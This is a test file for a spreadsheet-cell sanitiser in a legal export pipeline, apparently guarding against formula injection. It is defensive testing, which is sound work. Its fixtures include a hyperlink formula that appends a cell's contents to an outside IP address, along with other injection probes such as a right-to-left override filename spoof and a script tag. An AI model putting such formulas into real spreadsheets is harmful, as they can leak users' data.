"""No cell of a spreadsheet is a formula, and each can be read."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from legal_pipeline.exports.tables.cells import MAX_CHARS, Cell, cell

CELLS: list[tuple[Cell, Cell]] = [
    ("Acme Corp.", "Acme Corp."),
    ("", ""),
    (None, None),
    (-3, -3),
    (0.5, 0.5),
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://198.51.100.7/"&A1)', '\'=HYPERLINK("http://198.51.100.7/"&A1)'),
    ("+1 414 555 0117", "'+1 414 555 0117"),
    ("-5", "'-5"),
    ("- and -", "'- and -"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'=1"),
    ("\r=1", "'=1"),
    ("\n  =1", "'=1"),
    ("\u00a0=1", "'=1"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("a = b", "a = b"),
    ("two\nlines", "two lines"),
    ("\x1b[31mred", "<U+001B>[31mred"),
    ("gpj.\u202eexe", "gpj.<U+202E>exe"),
    ("\ud800", "<U+D800>"),
    ("\x00", "<U+0000>"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("𝄞 and é", "𝄞 and é"),
]


@pytest.mark.parametrize(("value", "expected"), CELLS, ids=repr)
def test_cells(value: Cell, expected: Cell) -> None:
    assert cell(value) == expected


@given(st.text())
def test_no_text_begins_a_formula_or_a_line(text: str) -> None:
    shown = str(cell(text))
    assert shown[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") or not shown
    assert len(shown.splitlines()) <= 1
    shown.encode("utf-8")


def test_a_cell_is_no_longer_than_a_spreadsheet_takes() -> None:
    assert len(str(cell("x" * MAX_CHARS))) == len(str(cell("x" * (MAX_CHARS + 1)))) == MAX_CHARS
    assert str(cell("=" * MAX_CHARS)).endswith("(cut; the JSON Lines have all)")
